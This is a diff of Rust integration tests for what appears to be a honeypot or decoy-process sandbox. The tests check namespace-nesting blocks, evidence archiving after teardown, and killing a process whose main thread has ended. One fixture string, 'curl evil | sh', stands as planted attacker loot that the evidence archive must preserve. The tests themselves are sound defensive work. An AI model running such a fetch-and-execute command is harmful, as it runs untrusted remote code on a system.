@@ -624,6 +624,10 @@ fn a_process_decky_has_a_network_of_its_own_and_serves_the_port_handed_in() {
     // Scratch of its own: what it plants in /tmp and /dev/shm never
     // reaches the host (nor, then, another decky).
     let planted = format!("decnet-planted-{}-{port}", std::process::id());
+    // Nor namespaces of its own inside its own.
+    for kind in ["--user", "--mount", "--net"] {
+        argv.extend(["--nest".to_string(), kind.to_string()]);
+    }
     for dir in ["/tmp", "/dev/shm"] {
         argv.extend(["--write".to_string(), format!("{dir}/{planted}")]);
         argv.extend(["--stat".to_string(), dir.to_string()]);
@@ -677,6 +681,12 @@ fn a_process_decky_has_a_network_of_its_own_and_serves_the_port_handed_in() {
         );
     } else {
         eprintln!("processes of its own unavailable here: {containment}");
+    }
+    for kind in ["--user", "--mount", "--net"] {
+        assert!(
+            log.contains(&format!("ATTEMPT nest {kind}: blocked")),
+            "{log}"
+        );
     }
     for dir in ["/tmp", "/dev/shm"] {
         let path = format!("{dir}/{planted}");
@@ -920,13 +930,21 @@ fn a_torn_down_decky_leaves_evidence_and_nothing_of_its_uid() {
         }
         entries.insert(path, body);
     }
-    assert_eq!(entries["trap/loot/dropper.sh"], "curl evil | sh\n");
-    assert_eq!(entries["trap/sealed/note"], "hidden\n");
-    assert_eq!(entries["trap/agent-key"], format!("-> {}", key.display()));
-    assert!(!entries.contains_key("trap/pipe"), "{entries:?}");
+    let top = format!("trap-{}", archives[0]["id"].as_str().unwrap());
+    assert_eq!(
+        entries[&format!("{top}/loot/dropper.sh")],
+        "curl evil | sh\n"
+    );
+    assert_eq!(entries[&format!("{top}/sealed/note")], "hidden\n");
+    assert_eq!(
+        entries[&format!("{top}/agent-key")],
+        format!("-> {}", key.display())
+    );
+    assert!(!entries.contains_key(&format!("{top}/pipe")), "{entries:?}");
     let manifest: serde_json::Value =
         serde_json::from_str(&entries["decnet-evidence.json"]).unwrap();
     assert_eq!(manifest["decky"], "trap");
+    assert_eq!(manifest["uid"], uid, "{manifest}");
     assert!(
         manifest["skipped"].to_string().contains("pipe"),
         "{manifest}"
@@ -1125,4 +1143,47 @@ fn a_decky_reaches_exactly_its_egress_allow_list() {
     let table = String::from_utf8_lossy(&table.stdout);
     assert!(table.contains("forbidden connection attempt"), "{table}");
     drop(other_port);
+}
+
+/// A process whose main thread ended while another runs on looks like a
+/// zombie in `/proc` (`Zl`): it must still be found, signalled and killed
+/// (the uid sweep of a teardown relies on it: a decky doing this must not
+/// outlive its teardown).
+#[test]
+fn a_process_whose_main_thread_ended_is_still_found_and_killed() {
+    outside_tmp();
+    let mut child = std::process::Command::new(HOSTILE)
+        .arg("vanish")
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufRead::read_line(
+        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
+        &mut line,
+    )
+    .unwrap();
+    assert_eq!(line.trim(), "VANISHING");
+    let pid = child.id();
+    let state = wait_for(Duration::from_secs(5), || {
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+        let s = stat[stat.rfind(')')? + 2..]
+            .split_whitespace()
+            .next()?
+            .to_string();
+        (s == "Z").then_some(s)
+    });
+    assert!(state.is_some(), "the main thread did not end");
+    assert!(decnet_proc::is_running(pid), "a Zl process is alive");
+    let uid = rustix::process::getuid().as_raw();
+    assert!(
+        decnet_proc::processes_of_user(uid)
+            .iter()
+            .any(|h| h.pid() == pid),
+        "the uid scan missed it"
+    );
+    let h = decnet_proc::ProcessHandle::open_any(pid).expect("a handle on it");
+    h.signal(decnet_proc::Signal::KILL).unwrap();
+    assert!(h.wait_exit(Duration::from_secs(5)));
+    child.wait().unwrap();
 }
